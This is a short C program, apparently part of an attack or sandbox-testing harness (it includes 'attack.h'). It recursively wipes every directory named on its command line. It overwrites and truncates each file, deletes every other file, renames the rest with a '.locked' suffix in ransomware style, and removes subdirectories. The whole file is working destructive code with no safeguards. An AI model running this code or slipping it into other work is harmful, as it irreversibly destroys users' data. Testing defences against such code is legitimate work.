// Overwrites, truncates and removes everything beneath the directories named.
#include <dirent.h>

#include "attack.h"

static long changed;

static void Wipe(const char* directory, int depth) {
  DIR* stream = opendir(directory);
  if (!stream || depth > 8) return;
  struct dirent* entry;
  int turn = 0;
  while ((entry = readdir(stream))) {
    if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
    char path[4096];
    if ((size_t)snprintf(path, sizeof path, "%s/%s", directory, entry->d_name) >= sizeof path) {
      continue;
    }
    struct stat info;
    if (lstat(path, &info) != 0) continue;
    if (S_ISDIR(info.st_mode)) {
      Wipe(path, depth + 1);
      if (rmdir(path) == 0) ++changed;
      continue;
    }
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
      if (write(fd, "\xe2\x9d\xa4", 3) == 3) ++changed;
      close(fd);
    }
    if (truncate(path, 0) == 0) ++changed;
    if (chmod(path, 0) == 0 && chmod(path, 0644) == 0) Say("mode of %s changed", path);
    if (turn++ % 2 == 0 && unlink(path) == 0) ++changed;
    char other[4200];
    snprintf(other, sizeof other, "%s.locked", path);
    if (rename(path, other) == 0) ++changed;
  }
  closedir(stream);
}

int main(int argc, char** argv) {
  for (int i = 1; i < argc; ++i) Wipe(argv[i], 0);
  Say("changed %ld", changed);
  Done();
  return 0;
}
